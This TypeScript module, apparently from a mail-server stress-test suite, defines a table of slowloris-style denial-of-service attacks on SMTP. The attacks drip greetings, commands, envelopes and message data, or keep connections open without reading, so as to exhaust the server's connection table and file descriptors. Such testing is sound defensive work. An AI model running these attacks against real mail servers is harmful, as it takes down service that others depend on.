import { type Aim, type Attack, keepOpen, open, sendForever, sendSlowly } from './sockets.ts';

/* Who takes his time, and who never listens. */

const EHLO = 'EHLO attacker.example\r\n';
const ENVELOPE = `${EHLO}MAIL FROM:<a@attacker.example>\r\nRCPT TO:<ann@example.com>\r\n`;

/** A thousand connections, most of which are turned away: the table and the descriptors are what is aimed at. */
const slow =
  (first: string, then: string, every = 500): Attack =>
  (aim: Aim) =>
    keepOpen(500, () => {
      const socket = open(aim, aim.smtp);
      socket.write(first);
      sendSlowly(socket, then, every);
      return socket.resume();
    });

const deaf =
  (first: string, again: string): Attack =>
  (aim: Aim) =>
    keepOpen(50, () => {
      const socket = open(aim, aim.smtp).pause();
      socket.write(first);
      sendForever(socket, again);
      return socket;
    });

export const SLOW: Readonly<Record<string, Attack>> = {
  'slow greeting': slow('', ' '),
  'slow commands': slow(EHLO, 'NOOP\r\n'),
  'slow envelope': slow(`${EHLO}MAIL FROM:<a@attacker.example>\r\n`, 'RCPT TO:<ann@example.com>\r\n'),
  'slow message': slow(`${ENVELOPE}DATA\r\n`, 'x: y\r\n'),
  'slow chunk': slow(`${ENVELOPE}BDAT 1000000\r\n`, 'x: y\r\n'),
  'one byte segments': slow(EHLO, 'NOOP\r\n', 1),
  'deaf to ehlo': deaf('', EHLO),
  'deaf to refusals': deaf(EHLO, 'RCPT TO:<ann@example.com>\r\n'),
};
